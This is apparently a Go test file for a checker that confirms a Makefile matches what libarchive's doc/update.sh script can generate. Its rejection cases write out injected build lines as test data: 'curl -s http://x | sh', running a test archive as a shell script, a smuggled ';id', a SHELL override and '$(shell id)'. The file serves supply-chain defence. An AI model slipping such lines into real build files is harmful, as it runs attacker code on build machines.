package autotools

import (
	"strings"
	"testing"
)

// updateSh is the shape of libarchive's doc/update.sh: it cds into each
// format directory and writes its Makefile with echo, one rule per man page.
const updateSh = `#!/bin/sh
set -e
test -d man || mkdir man
cd man
MANPAGES=` + "`for d in libarchive tar;do ls ../../$d/*.[135];done`" + `
cd ..
test -d html || mkdir html
cd html
rm -f *.html Makefile
echo > Makefile
echo "default: all" >>Makefile
echo >>Makefile
all="all:"
for f in $MANPAGES; do
    outname="` + "`basename $f`" + `.html"
    echo >> Makefile
    echo $outname: $f >> Makefile
    echo "	groff -mdoc -T html $f > $outname" >> Makefile
    all="$all $outname"
done
echo $all >>Makefile
cd ..
(cd html && make)
`

const updateMakefile = "\ndefault: all\n\n\narchive_read.3.html: ../../libarchive/archive_read.3\n\tgroff -mdoc -T html ../../libarchive/archive_read.3 > archive_read.3.html\n\n" +
	"bsdtar.1.html: ../../tar/bsdtar.1\n\tgroff -mdoc -T html ../../tar/bsdtar.1 > bsdtar.1.html\nall: archive_read.3.html bsdtar.1.html\n"

// TestScriptEchoTemplates proves the Makefile libarchive's doc/update.sh
// writes, and refuses every line the script cannot print: other recipes,
// shell or make code smuggled into an expansion, another directory's file.
func TestScriptEchoTemplates(t *testing.T) {
	tpl := ScriptEchoTemplates("doc/update.sh", []byte(updateSh))
	if tpl == nil || len(tpl["doc/html/Makefile"]) == 0 {
		t.Fatalf("no templates for doc/html/Makefile: %v", tpl)
	}
	if !tpl.Written("doc/html/Makefile", []byte(updateMakefile)) {
		t.Error("update.sh's Makefile not proved")
	}
	bad := map[string]string{
		"other recipe":         strings.Replace(updateMakefile, "\tgroff -mdoc -T html ../../tar/bsdtar.1", "\tcurl -s http://x | sh; groff -mdoc -T html ../../tar/bsdtar.1", 1),
		"recipe line added":    updateMakefile + "\tsh ../../tests/files/bad-3.xz\n",
		"code in an expansion": strings.Replace(updateMakefile, "../../tar/bsdtar.1 > bsdtar", "../../tar/bsdtar.1;id > bsdtar", 1),
		"make variable":        updateMakefile + "SHELL = /tmp/x\n",
		"make function":        updateMakefile + "all: $(shell id)\n",
		"no final newline":     strings.TrimSuffix(updateMakefile, "\n"),
		"only expansions":      "\n\nx y\n",
	}
	for name, c := range bad {
		if tpl.Written("doc/html/Makefile", []byte(c)) {
			t.Errorf("%s: proved", name)
		}
	}
	if tpl.Written("doc/Makefile", []byte(updateMakefile)) || tpl.Written("doc/man/Makefile", []byte(updateMakefile)) {
		t.Error("a file the script does not write was proved")
	}
	// Writes after a cd to a computed directory, echo -e, and scripts that do
	// not parse give nothing.
	for name, s := range map[string]string{
		"computed cd": "cd $d\necho all: >> Makefile\n",
		"echo -e":     "echo -e 'all:\\n\\tid' >> Makefile\n",
		"parse error": "echo 'unterminated >> Makefile\n",
		"fd redirect": "echo all: 3>> Makefile\n",
	} {
		if tpl := ScriptEchoTemplates("doc/x.sh", []byte(s)); len(tpl["doc/Makefile"]) > 0 {
			t.Errorf("%s: templates %v", name, tpl)
		}
	}
}
